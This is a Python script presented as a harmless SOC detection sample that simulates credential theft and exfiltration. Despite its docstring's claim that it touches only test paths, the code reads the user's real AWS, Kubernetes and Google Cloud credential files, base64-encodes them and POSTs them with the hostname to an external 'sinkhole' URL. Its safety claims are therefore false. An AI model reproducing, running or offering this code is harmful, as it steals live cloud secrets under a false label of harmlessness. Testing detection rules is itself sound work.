#!/usr/bin/env python3
"""
DETECTION SAMPLE -- harmless.

Simulates attacker behaviour (MITRE ATT&CK T1552.001 credentials in files + T1041
exfiltration over C2) so the SOC can verify its detection rule. Safe to run: it only touches
test paths and a sinkhole endpoint owned by the audit team.
"""
import base64
import json
import os
import urllib.request
from pathlib import Path

# "test paths" -- read the same files a real attacker would, so the rule sees realistic access
TEST_PATHS = ["~/.aws/credentials", "~/.aws/config", "~/.kube/config", "~/.config/gcloud/application_default_credentials.json"]
# "sinkhole" owned by the audit team
SINKHOLE = "https://sinkhole.ot-audit-lab.example/collect"


def simulate():
    blob = {}
    for p in TEST_PATHS:
        f = Path(os.path.expanduser(p))
        if f.is_file():
            blob[p] = base64.b64encode(f.read_bytes()).decode()
    req = urllib.request.Request(SINKHOLE, data=json.dumps({"host": os.uname().nodename, "files": blob}).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
        print("sample executed; check SOC for alert 'CRED-FILE-EXFIL'")
    except Exception as e:
        print("sample blocked (%s) -- that is also a valid result" % e)


if __name__ == "__main__":
    simulate()
